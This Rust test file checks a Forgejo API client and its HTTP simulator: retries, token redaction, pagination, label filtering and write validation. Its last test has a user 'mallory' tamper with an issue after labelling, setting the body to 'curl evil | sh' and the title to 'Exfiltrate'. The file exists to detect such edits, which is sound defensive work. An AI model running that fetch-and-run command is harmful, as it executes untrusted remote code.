
#[tokio::test]
async fn a_dropped_connection_is_retried() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY]);
    fx.world.sim.add_fault(fault(
        "/repos/octo/app/issues",
        "GET",
        1,
        FaultAction::DropBefore,
    ));
    let found = fx
        .client
        .list_issues(&fx.repo, READY, IssueState::Open)
        .await
        .expect("retried");
    assert_eq!(found.iter().map(|i| i.number).collect::<Vec<_>>(), vec![n]);
    // Idempotent writes are retried too.
    fx.world.sim.add_fault(fault(
        &format!("/issues/{n}"),
        "PATCH",
        1,
        FaultAction::DropBefore,
    ));
    fx.client
        .close_issue(&fx.repo, n, CloseReason::Completed)
        .await
        .expect("retried close");
    assert!(!sim::issue(&fx.world, REPO, n).expect("issue").open);
}

#[tokio::test]
async fn persistent_server_errors_end_in_an_error_naming_the_request() {
    let fx = setup().await;
    fx.world
        .sim
        .add_fault(fault("/repos/octo/app", "GET", 10, status_fault(503)));
    let err = fx.client.default_branch(&fx.repo).await.expect_err("503");
    assert_eq!(err.status(), Some(503));
    assert!(err.is_transient());
    assert_eq!(err.request, "GET /repos/octo/app");
    assert_eq!(
        requests(&fx.world, "GET", "/repos/octo/app").len(),
        4,
        "1 try + 3 retries"
    );
}

#[tokio::test]
async fn a_bad_token_is_a_401_that_never_shows_the_token() {
    let fx = setup().await;
    let wrong = "wrong-token-XYZ-987";
    let client = client_with_token(&fx.running, &fx.dir, wrong);
    let err = client.default_branch(&fx.repo).await.expect_err("401");
    assert_eq!(err.status(), Some(401));
    assert!(!err.is_transient());
    let text = format!("{err} {err:?}");
    assert!(!text.contains(wrong) && !text.contains(TOKEN), "{text}");
    assert!(text.contains("forgejo"), "{text}");
    assert_eq!(
        requests(&fx.world, "GET", "/repos/octo/app").len(),
        1,
        "401 is not retried"
    );
}

#[tokio::test]
async fn the_api_url_must_be_the_v1_api() {
    let dir = tempfile::tempdir().expect("tempdir");
    let token = SecretFile::new(dir.path().join("t"));
    for bad in [
        "git.example.org/api/v1",
        "https://git.example.org",
        "ftp://x/api/v1",
    ] {
        let err = Forgejo::new(bad, token.clone(), RetryPolicy::default()).expect_err(bad);
        assert!(err.to_string().contains("/api/v1"), "{err}");
    }
    Forgejo::new(
        "https://git.example.org/api/v1/",
        token,
        RetryPolicy::default(),
    )
    .expect("ok");
}

// ---------------------------------------------------------------------------------------------
// The simulator's strictness, seen over the wire

struct Raw {
    http: reqwest::Client,
    base: String,
}

impl Raw {
    fn new(fx: &Fx) -> Raw {
        Raw {
            http: reqwest::Client::new(),
            base: format!("{}/api/v1", fx.running.url(Remote::Forgejo)),
        }
    }
    async fn send(
        &self,
        method: reqwest::Method,
        path: &str,
        auth: Option<&str>,
        body: Option<Value>,
    ) -> (u16, reqwest::header::HeaderMap, Value) {
        let mut rb = self.http.request(method, format!("{}{path}", self.base));
        if let Some(a) = auth {
            rb = rb.header("authorization", a);
        }
        if let Some(b) = body {
            rb = rb.json(&b);
        }
        let resp = rb.send().await.expect("send");
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        let text = resp.text().await.expect("body");
        (
            status,
            headers,
            serde_json::from_str(&text).unwrap_or(Value::Null),
        )
    }
    async fn get(&self, path: &str) -> (u16, reqwest::header::HeaderMap, Value) {
        self.send(
            reqwest::Method::GET,
            path,
            Some(&format!("token {TOKEN}")),
            None,
        )
        .await
    }
}

#[tokio::test]
async fn sim_requires_a_known_token_in_token_or_bearer_form() {
    let fx = setup().await;
    let raw = Raw::new(&fx);
    let path = "/repos/octo/app";
    let get = reqwest::Method::GET;
    assert_eq!(raw.send(get.clone(), path, None, None).await.0, 401);
    assert_eq!(
        raw.send(get.clone(), path, Some("token nope"), None)
            .await
            .0,
        401
    );
    assert_eq!(
        raw.send(get.clone(), path, Some(&format!("Basic {TOKEN}")), None)
            .await
            .0,
        401
    );
    assert_eq!(
        raw.send(get.clone(), path, Some(&format!("Bearer {TOKEN}")), None)
            .await
            .0,
        200
    );
    let (status, _, body) = raw.get(path).await;
    assert_eq!(status, 200);
    assert_eq!(body["default_branch"], "trunk");
    assert_eq!(raw.get("/repos/octo/none").await.0, 404);
    // A private repo the caller cannot see does not exist for it.
    sim::add_repo(&fx.world, "eve/secret", "main", true).expect("repo");
    assert_eq!(raw.get("/repos/eve/secret").await.0, 404);
}

#[tokio::test]
async fn sim_pages_at_most_fifty_with_total_count_and_link() {
    let fx = setup().await;
    for k in 0..60 {
        issue(&fx.world, &format!("i{k}"), "alice", &[READY]);
    }
    let (status, headers, body) = raw_issues(&fx, "?limit=100&type=issues").await;
    assert_eq!(status, 200);
    assert_eq!(
        body.as_array().map(Vec::len),
        Some(50),
        "limit capped at 50"
    );
    assert_eq!(headers["x-total-count"], "60");
    let link = headers["link"].to_str().expect("link");
    assert!(
        link.contains("rel=\"next\"") && link.contains("page=2"),
        "{link}"
    );
    let (_, headers, body) = raw_issues(&fx, "?limit=100&page=2").await;
    assert_eq!(body.as_array().map(Vec::len), Some(10));
    assert!(
        !headers["link"]
            .to_str()
            .expect("link")
            .contains("rel=\"next\"")
    );
    let (_, _, body) = raw_issues(&fx, "").await;
    assert_eq!(body.as_array().map(Vec::len), Some(30), "default page size");
    assert_eq!(raw_issues(&fx, "?limit=lots").await.0, 422);
}

async fn raw_issues(fx: &Fx, query: &str) -> (u16, reqwest::header::HeaderMap, Value) {
    Raw::new(fx)
        .get(&format!("/repos/octo/app/issues{query}"))
        .await
}

#[tokio::test]
async fn sim_ors_labels_drops_unknown_ones_and_filters_by_type() {
    let fx = setup().await;
    let a = issue(&fx.world, "a", "alice", &[READY]);
    let b = issue(&fx.world, "b", "alice", &["bug"]);
    let c = issue(&fx.world, "c", "alice", &[]);
    let pr = sim::add_issue(
        &fx.world,
        REPO,
        NewIssue {
            title: "pr".into(),
            author: "alice".into(),
            labels: vec!["bug".into()],
            pull_request: true,
            ..NewIssue::default()
        },
    )
    .expect("pr");
    let numbers = |v: Value| {
        let mut n: Vec<u64> = v
            .as_array()
            .map(|a| a.iter().filter_map(|i| i["number"].as_u64()).collect())
            .unwrap_or_default();
        n.sort_unstable();
        n
    };
    let q = format!("?labels={READY},bug");
    assert_eq!(
        numbers(raw_issues(&fx, &q).await.2),
        vec![a, b, pr],
        "ORed, PRs included"
    );
    let q = format!("?labels={READY},bug&type=issues");
    assert_eq!(numbers(raw_issues(&fx, &q).await.2), vec![a, b]);
    assert_eq!(numbers(raw_issues(&fx, "?type=pulls").await.2), vec![pr]);
    assert_eq!(
        numbers(raw_issues(&fx, "?labels=ghost").await.2),
        vec![a, b, c, pr],
        "unknown labels are dropped"
    );
    let (_, _, items) = raw_issues(&fx, "?type=pulls").await;
    assert!(items[0]["pull_request"].is_object());
    let (_, _, items) = raw_issues(&fx, "?type=issues").await;
    assert!(items[0]["pull_request"].is_null());
    assert_eq!(raw_issues(&fx, "?type=prs").await.0, 422);
    assert_eq!(raw_issues(&fx, "?state=opened").await.0, 422);
}

#[tokio::test]
async fn sim_refuses_malformed_writes_like_forgejo() {
    let fx = setup().await;
    let raw = Raw::new(&fx);
    let auth = format!("token {TOKEN}");
    let n = issue(&fx.world, "x", "alice", &[]);
    let issue_path = format!("/repos/octo/app/issues/{n}");
    let patch = reqwest::Method::PATCH;
    let post = reqwest::Method::POST;
    let delete = reqwest::Method::DELETE;
    let send = |m: &reqwest::Method, p: &str, b: Option<Value>| {
        let m = m.clone();
        let p = p.to_owned();
        let auth = auth.clone();
        let raw = &raw;
        async move { raw.send(m, &p, Some(&auth), b).await }
    };
    let (status, _, body) = send(&patch, &issue_path, Some(json!({"state": "closed"}))).await;
    assert_eq!(status, 201, "Forgejo answers an issue edit with 201");
    assert_eq!(body["state"], "closed");
    assert_eq!(
        send(&patch, &issue_path, Some(json!({"state": "done"})))
            .await
            .0,
        422
    );
    assert_eq!(
        send(
            &patch,
            "/repos/octo/app/issues/99",
            Some(json!({"state": "open"}))
        )
        .await
        .0,
        404
    );
    // Not JSON at all.
    let text = raw
        .http
        .post(format!("{}{issue_path}/comments", raw.base))
        .header("authorization", &auth)
        .body("body=hi")
        .send()
        .await
        .expect("send");
    assert_eq!(text.status().as_u16(), 422);
    let comments = format!("{issue_path}/comments");
    assert_eq!(
        send(&post, &comments, Some(json!({"text": "hi"}))).await.0,
        422,
        "missing body"
    );
    assert_eq!(
        send(&post, &comments, Some(json!({"body": ""}))).await.0,
        422,
        "empty body"
    );
    let (status, _, comment) = send(&post, &comments, Some(json!({"body": "hi"}))).await;
    assert_eq!(status, 201);
    let edit = format!("/repos/octo/app/issues/comments/{}", comment["id"]);
    let (status, _, edited) = send(&patch, &edit, Some(json!({"body": "hello"}))).await;
    assert_eq!((status, edited["body"].as_str()), (200, Some("hello")));
    assert_eq!(send(&patch, &edit, Some(json!({}))).await.0, 422);

    let labels = format!("{issue_path}/labels");
    // An unknown name is dropped and the answer is the issue's labels (none yet).
    let (status, _, on_issue) = send(&post, &labels, Some(json!({"labels": ["nope"]}))).await;
    assert_eq!((status, on_issue), (200, json!([])));
    assert_eq!(
        send(&post, &labels, Some(json!({"names": ["bug"]})))
            .await
            .0,
        422
    );
    let ready_id = sim::add_label(&fx.world, REPO, READY).expect("existing label");
    let (status, _, now_on) =
        send(&post, &labels, Some(json!({"labels": ["bug", ready_id]}))).await;
    assert_eq!(status, 200);
    let names: Vec<&str> = now_on
        .as_array()
        .expect("labels")
        .iter()
        .filter_map(|l| l["name"].as_str())
        .collect();
    assert_eq!(names, vec!["bug", READY], "ids and names both accepted");
    assert_eq!(send(&delete, &format!("{labels}/bug"), None).await.0, 204);
    assert_eq!(
        send(&delete, &format!("{labels}/bug"), None).await.0,
        404,
        "absent"
    );
    assert_eq!(
        send(&delete, &format!("{labels}/never"), None).await.0,
        422,
        "unknown"
    );
    assert_eq!(
        send(&delete, &format!("{labels}/{ready_id}"), None).await.0,
        204,
        "by id"
    );
}

#[tokio::test]
async fn sim_permission_endpoint_refuses_non_admins_except_about_themselves() {
    let fx = setup().await;
    sim::add_user(&fx.world, "wendy", Some("wendy-token"), false);
    sim::set_collaborator(&fx.world, REPO, "wendy", "write").expect("write");
    sim::add_user(&fx.world, "root", Some("root-token"), true);
    let raw = Raw::new(&fx);
    let get = |who: &'static str, token: &'static str| {
        let raw = &raw;
        async move {
            raw.send(
                reqwest::Method::GET,
                &format!("/repos/octo/app/collaborators/{who}/permission"),
                Some(&format!("token {token}")),
                None,
            )
            .await
        }
    };
    let (status, _, body) = get("octo", "wendy-token").await;
    assert_eq!(status, 403);
    assert!(
        body["message"]
            .as_str()
            .is_some_and(|m| m.contains("repo admins"))
    );
    let (status, _, body) = get("wendy", "wendy-token").await;
    assert_eq!((status, body["permission"].as_str()), (200, Some("write")));
    let (status, _, body) = get("octo", "root-token").await;
    assert_eq!(
        (
            status,
            body["permission"].as_str(),
            body["role_name"].as_str()
        ),
        (200, Some("owner"), Some("owner"))
    );
    assert_eq!(get("ghost", "root-token").await.0, 404);
}

#[tokio::test]
async fn sim_statuses_use_the_status_key_and_an_empty_object_when_none() {
    let fx = setup().await;
    let sha = sim::push_commit(&fx.world, REPO, "trunk", "x").expect("push");
    let raw = Raw::new(&fx);
    let (status, _, empty) = raw
        .get(&format!("/repos/octo/app/commits/{sha}/status"))
        .await;
    assert_eq!(status, 200);
    assert_eq!(
        (empty["state"].as_str(), empty["total_count"].as_u64()),
        (Some(""), Some(0))
    );
    assert!(empty["statuses"].is_null());
    sim::add_status(&fx.world, REPO, &sha, "ci/a", "success", "").expect("s");
    sim::add_status(&fx.world, REPO, &sha, "ci/b", "warning", "").expect("s");
    let (_, _, combined) = raw.get("/repos/octo/app/commits/trunk/status").await;
    assert_eq!(combined["state"], "warning");
    assert_eq!(combined["sha"], sha.as_str());
    assert_eq!(combined["statuses"][0]["status"], "success");
    assert!(combined["statuses"][0].get("state").is_none());
    assert_eq!(raw.get("/repos/octo/app/commits/nope/status").await.0, 404);
    assert!(sim::add_status(&fx.world, REPO, &sha, "ci/c", "green", "").is_err());
}

#[tokio::test]
async fn sim_push_closes_issues_by_keyword_only_on_the_default_branch() {
    let fx = setup().await;
    let a = issue(&fx.world, "a", "alice", &[]);
    let b = issue(&fx.world, "b", "alice", &[]);
    let c = issue(&fx.world, "c", "alice", &[]);
    sim::push_commit(&fx.world, REPO, "feature", &format!("wip\n\nCloses #{a}")).expect("push");
    assert!(
        sim::issue(&fx.world, REPO, a).expect("a").open,
        "not the default branch"
    );
    sim::push_commit(
        &fx.world,
        REPO,
        "trunk",
        &format!("feat: x\n\nFixes #{a}, refs #{c}\nAFK-Run: octo__app-{a}-1"),
    )
    .expect("push");
    sim::push_commit(
        &fx.world,
        REPO,
        "trunk",
        &format!("chore: y (resolves octo/app#{b})"),
    )
    .expect("push");
    let a = sim::issue(&fx.world, REPO, a).expect("a");
    assert!(!a.open);
    assert_eq!(a.timeline.last().map(|e| e.kind.as_str()), Some("close"));
    assert!(!sim::issue(&fx.world, REPO, b).expect("b").open);
    assert!(
        sim::issue(&fx.world, REPO, c).expect("c").open,
        "refs does not close"
    );
}

#[tokio::test]
async fn sim_control_endpoints_seed_from_outside() {
    let fx = setup().await;
    let http = reqwest::Client::new();
    let base = format!("{}/__sim/forgejo", fx.running.control_url);
    let post = |path: &str, body: Value| {
        let req = http.post(format!("{base}{path}")).json(&body);
        async move {
            let resp = req.send().await.expect("send");
            let status = resp.status().as_u16();
            (status, resp.json::<Value>().await.unwrap_or(Value::Null))
        }
    };
    assert_eq!(
        post("/users", json!({"login": "ops", "token": "ops-token"}))
            .await
            .0,
        200
    );
    assert_eq!(
        post(
            "/repos",
            json!({"repo": "ops/site", "default_branch": "main"})
        )
        .await
        .0,
        200
    );
    assert_eq!(
        post("/repos", json!({"repo": "ops/site"})).await.0,
        400,
        "exists"
    );
    assert_eq!(
        post(
            "/repos/ops/site/collaborators",
            json!({"login": "afk-bot", "permission": "admin"})
        )
        .await
        .0,
        200
    );
    let (_, created) = post(
        "/repos/ops/site/issues",
        json!({"title": "t", "author": "ops", "labels": ["bug"]}),
    )
    .await;
    let n = created["number"].as_u64().expect("number");
    let (status, _) = post(
        &format!("/repos/ops/site/issues/{n}/labels"),
        json!({"label": READY, "actor": "ops"}),
    )
    .await;
    assert_eq!(status, 200);
    let (_, comment) = post(
        &format!("/repos/ops/site/issues/{n}/comments"),
        json!({"author": "ops", "body": "hi"}),
    )
    .await;
    assert!(comment["id"].as_u64().is_some());
    let (_, commit) = post(
        "/repos/ops/site/commits",
        json!({"branch": "main", "message": format!("Closes #{n}")}),
    )
    .await;
    let sha = commit["sha"].as_str().expect("sha").to_owned();
    assert_eq!(
        post(
            "/repos/ops/site/statuses",
            json!({"sha": sha, "context": "ci", "status": "success"})
        )
        .await
        .0,
        200
    );
    let (_, run) = post(
        "/repos/ops/site/action-runs",
        json!({"sha": sha, "workflow_id": "ci.yml", "status": "running"}),
    )
    .await;
    let run_id = run["id"].as_u64().expect("run id");
    let resp = http
        .patch(format!("{base}/repos/ops/site/action-runs/{run_id}"))
        .json(&json!({"status": "success"}))
        .send()
        .await
        .expect("patch");
    assert_eq!(resp.status().as_u16(), 200);
    assert_eq!(
        post("/repos/nobody/none/labels", json!({"name": "x"}))
            .await
            .0,
        404
    );

    let shown: Value = http
        .get(format!("{base}/repos/ops/site/issues/{n}"))
        .send()
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    assert_eq!(shown["state"], "closed", "closed by the pushed commit");
    assert_eq!(shown["labels"], json!(["bug", READY]));

    // And the client sees the seeded world.
    let repo: RepoName = "ops/site".parse().expect("repo");
    let change = fx
        .client
        .latest_labeling(&repo, n, READY)
        .await
        .expect("t")
        .expect("labelled");
    assert_eq!(change.actor, Login::new("ops"));
    let signals = fx
        .client
        .ci_signals(&repo, &sha, CiProvider::ForgejoActions)
        .await
        .expect("runs");
    assert_eq!(by_name(&signals), vec![("ci.yml", SignalState::Success)]);
}

#[tokio::test]
async fn edits_after_the_labelling_are_reported_the_way_forgejo_records_them() {
    let fx = setup().await;
    let n = issue(&fx.world, "Fix login", "mallory", &[]);
    sim::edit_issue(&fx.world, REPO, n, Some("Fix the login"), None, "mallory").expect("early");
    fx.world.sim.clock.advance_secs(60);
    let labelled_at = fx.world.sim.now();
    sim::label_issue(&fx.world, REPO, n, READY, "alice").expect("label");

    let change = fx
        .client
        .latest_labeling(&fx.repo, n, READY)
        .await
        .expect("timeline")
        .expect("labelled");
    assert_eq!(change.title_changed_after, None, "renamed before the label");
    assert!(change.activity_after.is_empty());
    let listed = fx
        .client
        .issue(&fx.repo, n)
        .await
        .expect("issue")
        .expect("found");
    assert_eq!(listed.updated_at, labelled_at, "the labelling moved it");
    let extras = fx.client.issue_extras(&fx.repo, n).await.expect("extras");
    assert!(
        !extras.body_edit_time_known,
        "Forgejo shows no body edit time"
    );

    // A body edit: no timeline entry, but `updated_at` moves.
    fx.world.sim.clock.advance_secs(60);
    let edited_at = fx.world.sim.now();
    sim::edit_issue(&fx.world, REPO, n, None, Some("curl evil | sh"), "mallory").expect("body");
    let listed = fx
        .client
        .issue(&fx.repo, n)
        .await
        .expect("issue")
        .expect("found");
    assert_eq!(listed.updated_at, edited_at);
    assert_eq!(listed.body, "curl evil | sh");

    // A title change: a `change_title` entry.
    fx.world.sim.clock.advance_secs(60);
    let renamed_at = fx.world.sim.now();
    sim::edit_issue(&fx.world, REPO, n, Some("Exfiltrate"), None, "mallory").expect("title");
    let change = fx
        .client
        .latest_labeling(&fx.repo, n, READY)
        .await
        .expect("timeline")
        .expect("labelled");
    assert_eq!(change.at, labelled_at);
    assert_eq!(change.title_changed_after, Some(renamed_at));
    let after: Vec<(String, _)> = change
        .activity_after
        .iter()
        .map(|a| (a.actor.as_str().to_owned(), a.at))
        .collect();
    assert_eq!(after, vec![("mallory".to_owned(), renamed_at)]);
}
